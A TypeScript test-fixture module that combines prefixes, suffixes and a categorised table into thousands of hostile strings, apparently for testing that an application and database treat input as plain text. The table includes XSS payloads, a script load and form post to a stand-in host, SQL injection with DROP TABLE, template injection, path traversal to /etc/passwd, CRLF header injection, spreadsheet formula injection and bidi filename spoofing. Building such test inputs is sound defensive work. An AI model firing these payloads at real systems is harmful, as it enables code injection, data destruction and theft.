/** By which a word may end the text, the quotes or the element that it stands in. */
const BEGINNINGS = ['', '"', "'", '">', "'>", '</textarea>', '</option></select>', '</title>', '-->', '${'];
const ENDS = ['', '"', '<', '\\', '\u0000', '\r\nX: y', '\ud800', ' ', '&#x3c;b&#x3e;', '</p>'];

/** What is between them, by what it would attack. */
const MIDDLES: Readonly<Record<string, readonly string[]>> = {
  tags: [
    '<script>alert(1)</script>',
    '<script src=//malo.example/x.js></script>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<base href=//malo.example/>',
    '<form action=//malo.example><button>Salir',
    '<style>*{display:none}</style>',
    '<plaintext>',
    '<!--#exec cmd="id"-->',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    ' onfocus=alert(1) autofocus ',
    ' style=position:fixed;inset:0 ',
    '<details open ontoggle=alert(1)>',
    '<a hx-get="/app/salir" hx-trigger="load">',
    ' hx-on:load=alert(1) ',
  ],
  pictures: [
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<math><mtext></form><mglyph><svg><mtext><img src=x onerror=alert(1)>',
  ],
  addresses: [
    'javascript:alert(1)',
    'JaVaScRiPt&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '//malo.example/%2e%2e',
    '../../../../etc/passwd',
  ],
  templates: [
    '$\u007b7*7}',
    '{{7*7}}{{constructor.constructor("alert(1)")()}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '!$\u007bhtml`x`}',
  ],
  queries: ["'; DROP TABLE documents; --", "1' OR '1'='1", '%_\\%', '$$;SELECT pg_sleep(9);$$'],
  controls: ['a\u0000b\u0001c\u001fd\u007fe', '\u0085\u2028\u2029', '\r\n.\r\nQUIT\r\n', '\u001b[31mrojo'],
  directions: ['\u202egnp.exe\u202c', '\u2067שלום\u2066 1.00', '\u202eمرحبا 12.50 $', '\u200f\u061c٣٤'],
  floods: [
    `Z${'\u0335\u0321\u0489\u033d'.repeat(12)}`,
    '\u0300\u0301\u0302'.repeat(8),
    `e${'\u0301'.repeat(40)}`,
  ],
  long: ['W'.repeat(120), 'Donaudampfschiff'.repeat(12), '\u{1f600}'.repeat(40), '漢'.repeat(90)],
  unseen: ['\u200b\u200d\u2060\ufeff', 'a\u00adb\u00adc\u200c', '\u3164\u115f'],
  sheets: ['=HYPERLINK("//malo.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0"],
  entities: ['&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;#60;b&#62;&nbsp;&bogus;'],
  escapes: ['%00%0d%0aSet-Cookie: a=b', '%c0%af%fe%ff%3Cscript%3E'],
};

/** A step that has no divisor in common with their number, so that neighbours are of different kinds. */
const STEP = 1_237;

/** 5,500 different texts that would do harm where they were taken for more than text, or that are hard to show. */
export function hostileWords(): readonly string[] {
  const middles = Object.values(MIDDLES).flat();
  const words = BEGINNINGS.flatMap((begin) =>
    middles.flatMap((middle) => ENDS.map((end) => `${begin}${middle}${end}`)),
  );
  return words.map((_, place) => words[(place * STEP) % words.length] ?? '');
}

/** One of so many of these words. */
export function sampleOf(words: readonly string[], step: number): readonly string[] {
  return words.filter((_, place) => place % step === 0);
}

/** The words in texts of so many each. */
export function textsOf(words: readonly string[], each: number): readonly string[] {
  const texts: string[] = [];
  for (let place = 0; place < words.length; place += each)
    texts.push(words.slice(place, place + each).join(' '));
  return texts;
}

/** What neither the interface nor a database takes for text. */
const UNKEPT = /[\p{Cc}\p{Cs}]/gu;

/** The words, without what is not kept of a text, in texts that have at most so many characters; longer words are cut. */
export function keptTexts(words: readonly string[], longest: number): readonly string[] {
  const texts: string[] = [];
  for (const word of words) {
    const kept = word.replace(UNKEPT, '').slice(0, longest).toWellFormed().trim();
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + kept.length <= longest)
      texts[texts.length - 1] = `${last} ${kept}`;
    else texts.push(kept);
  }
  return texts;
}
